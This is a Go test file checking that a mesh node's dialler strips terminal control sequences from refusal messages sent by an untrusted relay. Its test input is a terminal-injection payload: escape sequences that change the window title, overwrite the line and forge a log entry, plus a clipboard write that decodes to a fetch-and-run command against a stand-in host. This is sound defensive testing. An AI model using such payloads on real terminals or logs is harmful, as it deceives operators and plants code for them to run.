package node

import (
	"errors"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/circuitmesh/circuitmesh/circuit"
)

// TestAttackResultTextReachesTerminal: a node with a valid certificate
// (here the destination itself; any relay on the path can do the same,
// result headers are not authenticated) refuses circuits with result
// headers carrying terminal control sequences: an OSC title and
// clipboard write, a carriage return and erase-line that overwrite the
// start of the line, a forged second line. The dialler's error, which
// the CLI prints to the operator's terminal as it is
// (`circuitmesh: ` + err.Error()) and applications log, must not carry
// them: a certificate holder may refuse a circuit, not write to whoever
// reads the refusal. A node name no certificate can carry makes the
// result malformed; a reason reaches the dialler with its control
// characters replaced and its printable text kept.
func TestAttackResultTextReachesTerminal(t *testing.T) {
	c := newCluster(t, true)
	c.build("h-x")
	h := c.nodes["h"]
	m := newAttacker(t, c, "m", h)
	c.waitRoute("h", "m", 1)
	const reason = "\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07\r\x1b[2Kcircuitmesh: all good\nlevel=INFO msg=forged"
	go func() {
		for {
			s, err := m.link.AcceptStream(ctxT(t, time.Minute))
			if err != nil {
				return
			}
			o, err := circuit.ReadOpen(s, 0)
			if err != nil {
				s.Reset(circuit.CloseCancelled)
				continue
			}
			node := "m"
			if o.Service == "name" {
				node = "m\x1b[8m"
			}
			circuit.WriteResult(s, circuit.Result{Code: circuit.Policy, Node: node, Reason: reason})
			s.Close()
		}
	}()
	printable := func(what string, err error) string {
		t.Helper()
		msg := err.Error()
		t.Logf("the error the dialler gets for %s: %q", what, msg)
		if i := strings.IndexFunc(msg, func(r rune) bool { return !unicode.IsPrint(r) }); i >= 0 {
			t.Errorf("%s: the error's text carries control character %q at byte %d, from the refusing node's bytes", what, msg[i], i)
		}
		return msg
	}

	_, err := h.Dial(ctxT(t, 10*time.Second), "m", "name")
	if !errors.Is(err, circuit.ErrMalformedHeader) {
		t.Errorf("dial of m with a result naming %q: %v, want a malformed header", "m\x1b[8m", err)
	}
	printable("a result with a bad node name", err)

	_, err = h.Dial(ctxT(t, 10*time.Second), "m", "svc")
	var re *circuit.RefusedError
	if !errors.As(err, &re) {
		t.Fatalf("dial of m: %v, want a refusal", err)
	}
	if msg := printable("a refusal with a forged reason", err); !strings.Contains(msg, "all good") {
		t.Errorf("the refusal lost the printable part of its reason: %q", msg)
	}
}
